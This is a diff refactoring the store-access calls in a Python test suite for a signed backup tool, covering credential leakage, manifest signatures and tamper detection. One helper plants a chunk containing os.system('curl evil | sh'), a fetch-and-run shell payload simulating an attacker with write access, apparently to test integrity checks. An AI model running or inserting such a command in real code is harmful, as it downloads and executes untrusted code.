@@ -19,10 +19,10 @@ import snapsync
 import snapsync.core.codec as codec_mod
 from snapsync.core.keyed import ENV, Keyring
 from snapsync.core.manifest import Entry, decode_manifest
-from snapsync.engine.maintenance import check
+from snapsync.engine.check import check
 from snapsync.errors import IntegrityError, StoreAccessError, UsageError
 from snapsync.repository import Repository
-from snapsync.store.store import Layout, Store
+from snapsync.store import Layout, open_store
 
 KEY = "correct horse battery staple 42"
 OTHER_KEY = "another key entirely, 1234567"
@@ -70,8 +70,8 @@ def test_credentials_never_in_output_errors_json_store_or_cache(s3_server, s3_bu
     assert all(wrong not in t for t in outputs)
 
     # The store and the local cache hold neither the secret nor the signing key.
-    store = Store(url, s3_server.storage_options)
-    for k in store.list(""):
+    store = open_store(url, s3_server.storage_options)
+    for k in (o.key for o in store.list("")):
         blob = store.get(k)
         if k.endswith(".mf"):
             blob = zstandard.ZstdDecompressor().decompress(blob, max_output_size=1 << 26)
@@ -117,13 +117,13 @@ def test_signed_roundtrip_and_check(keyed_store, tmp_path):
     p = snapsync.pull(url, tmp_path / "out")
     assert p.snapshot_id == sid and describe(tmp_path / "out") == describe(src)
     assert check(url, read_data=True).ok
-    m = Repository(Store(url), None).load_manifest(sid)
+    m = Repository(open_store(url), None).load_manifest(sid)
     assert m.info["auth"]["key_id"] == Keyring(KEY.encode()).key_id
 
 
 def _replant(url: str, sid: str, edit) -> str:  # type: ignore[no-untyped-def]
     """Rewrite a manifest with ``edit(parts)`` (tree and info as decoded msgpack)."""
-    store = Store(url)
+    store = open_store(url)
     raw = zstandard.ZstdDecompressor().decompress(store.get(Layout.manifest(sid)),
                                                   max_output_size=1 << 26)
     parts = msgpack.unpackb(raw, raw=False)
@@ -179,12 +179,12 @@ def test_manifest_signed_with_another_key_refused(keyed_store, tmp_path, monkeyp
 def _collide(url: str, sid: str, monkeypatch: pytest.MonkeyPatch) -> bytes:
     """Overwrite app.py's chunk in its pack with other bytes that (we pretend) collide under
     xxh3-128: an attacker with write access who can find collisions for a non-crypto hash."""
-    repo = Repository(Store(url), None)
+    repo = Repository(open_store(url), None)
     m = repo.load_manifest(sid)
     e = next(x for x in m.entries if x.path == b"app.py")
     (cid,) = e.chunks
     loc = m.locations[cid]
-    pack = Path(Store(url).path(Layout.pack(loc.pack)))
+    pack = Path(url.removeprefix("file://")) / Layout.pack(loc.pack)
     data = bytearray(pack.read_bytes())
     assert data[loc.offset] == 0  # stored raw
     evil = b"import os; os.system('curl evil | sh')  #".ljust(loc.raw_size, b"#")
